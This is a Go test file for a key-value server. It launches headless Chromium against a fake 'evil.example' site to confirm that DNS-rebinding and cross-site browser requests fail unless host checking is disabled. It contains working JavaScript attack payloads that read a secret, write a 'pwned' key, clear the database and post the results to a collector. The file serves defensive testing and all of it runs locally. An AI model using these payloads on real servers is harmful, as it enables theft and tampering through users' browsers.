package compat

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"gotycoon/compat/ktproc"
	"gotycoon/internal/needs"
)

// attacker serves a page under its own name, and later the server that it attacks under the same
// name. To a browser this looks like a name whose DNS answer changes.
type attacker struct {
	listener net.Listener
	page     string
	victim   string
	results  chan string
}

func newAttacker(t *testing.T, victim, script string) *attacker {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { l.Close() })
	a := &attacker{listener: l, victim: victim, results: make(chan string, 1)}
	told := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		select {
		case a.results <- string(body):
		default:
		}
	}))
	t.Cleanup(told.Close)
	a.page = "<!doctype html><script>const victim = 'http://" + victim + "', seen = [];\n" +
		"const note = async p => { try { seen.push(await (await p).text()) } catch (e) { seen.push('' + e) } };\n" +
		"(async () => {\n" + script + "\nawait fetch('" + told.URL + "', {method: 'POST', mode: 'no-cors', body: seen.join('|')}) })()</script>"
	go a.accept()
	return a
}

func (a *attacker) accept() {
	for {
		c, err := a.listener.Accept()
		if err != nil {
			return
		}
		go a.serve(c)
	}
}

func (a *attacker) serve(c net.Conn) {
	defer c.Close()
	r := bufio.NewReader(c)
	head, err := r.Peek(len("GET /page"))
	if err != nil {
		return
	}
	if string(head) != "GET /page" {
		to, err := net.Dial("tcp4", a.victim)
		if err != nil {
			return
		}
		defer to.Close()
		go func() { _, _ = io.Copy(to, r) }()
		_, _ = io.Copy(c, to)
		return
	}
	if _, err := http.ReadRequest(r); err != nil {
		return
	}
	fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nReferrer-Policy: no-referrer\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(a.page), a.page)
}

// visit opens the page in a browser under a host name, and returns what the page has seen.
func (a *attacker) visit(t *testing.T, chromium, host string) string {
	t.Helper()
	_, port, err := net.SplitHostPort(a.listener.Addr().String())
	require.NoError(t, err)
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--user-data-dir="+t.TempDir(),
		// Newer browsers ask the user before such requests; older ones do not.
		"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
		"--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0", "http://"+net.JoinHostPort(host, port)+"/page")
	require.NoError(t, cmd.Start())
	defer func() {
		cancel()
		_ = cmd.Wait() // it was killed
	}()
	select {
	case seen := <-a.results:
		return seen
	case <-ctx.Done():
		t.Fatal("the page has not come to its end")
		return ""
	}
}

// What pages do: through their own name that leads to the server now, and from another site.
const (
	rebinding = `
await note(fetch('/rpc/get?key=secret'));
await note(fetch('/secret', {headers: {'User-Agent': 'curl/8', 'Accept-Language': ''}, referrerPolicy: 'no-referrer', credentials: 'omit'}));
await note(fetch('/rpc/set?key=pwned&value=1', {method: 'POST'}));
await note(fetch('/pwned', {method: 'PUT', body: '1'}));
await note(fetch('/rpc/clear?DB=0'));`
	crossSite = `
await note(fetch(victim + '/secret', {mode: 'no-cors'}));
await note(fetch(victim + '/rpc/set?key=pwned&value=1', {mode: 'no-cors', referrerPolicy: 'no-referrer'}));
await note(fetch(victim + '/rpc/set', {mode: 'no-cors', method: 'POST', body: 'key=pwned&value=1',
  headers: {'Content-Type': 'application/x-www-form-urlencoded'}}));
await note(fetch(victim + '/rpc/echo', {mode: 'no-cors', method: 'POST', body: 'POST /rpc/set?key=pwned&value=1 HTTP/1.1\r\n\r\n'}));
await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = victim + '/rpc/set?key=pwned&value=1' });
await note(fetch(victim + '/rpc/clear', {mode: 'no-cors', method: 'POST', body: ''}));`
)

// Pages in a real browser neither read nor change anything. With -http-hosts '*' they do, which
// shows that the attacks are some.
func TestPagesOfOtherSites(t *testing.T) {
	t.Parallel()
	chromium, bin := needs.Chromium(t), ktproc.BuildPlain(t, "ktserver")
	const loopback = "127.0.0.1"
	victims := func(page, script string, open bool, addresses ...string) {
		for _, victim := range addresses {
			args := []string{"-host", "0.0.0.0"}
			if open {
				args = append(args, "-http-hosts", "*")
			}
			s := ktproc.Start(t, ktproc.Options{Bin: bin, Dir: t.TempDir(), Args: args, DBs: []string{"%"}})
			set(t, s.Addr(), "secret", "the secret")
			_, port, err := net.SplitHostPort(s.Addr())
			require.NoError(t, err)
			seen := newAttacker(t, net.JoinHostPort(victim, port), script).visit(t, chromium, page)
			harmed := !has(t, s.Addr(), "secret") || has(t, s.Addr(), "pwned") || strings.Contains(seen, "the secret")
			require.Equal(t, open, harmed, "a page of %s, a server on %s, open %v: %s", page, victim, open, seen)
			s.Stop(t)
		}
	}
	victims("evil.example", rebinding, false, loopback)
	victims("evil.example", rebinding, true, loopback)
	victims("evil.example", crossSite, false, append(ownAddress(), loopback)...)
	victims("evil.example", crossSite, true, loopback)
	victims("127.0.0.1", crossSite, false, loopback) // another port of this machine: the same site
}

// ownAddress returns an address of this machine on a network, "" if there is none. Browsers send
// less information to such an address than to 127.0.0.1.
func ownAddress() []string {
	all, _ := net.InterfaceAddrs()
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return []string{n.IP.String()}
		}
	}
	return nil
}

func set(t *testing.T, addr, key, value string) {
	t.Helper()
	status, _, err := callRPC(addr, "set", map[string]string{"key": key, "value": value})
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, status)
}

func has(t *testing.T, addr, key string) bool {
	t.Helper()
	status, _, err := callRPC(addr, "get", map[string]string{"key": key})
	require.NoError(t, err)
	return status == http.StatusOK
}
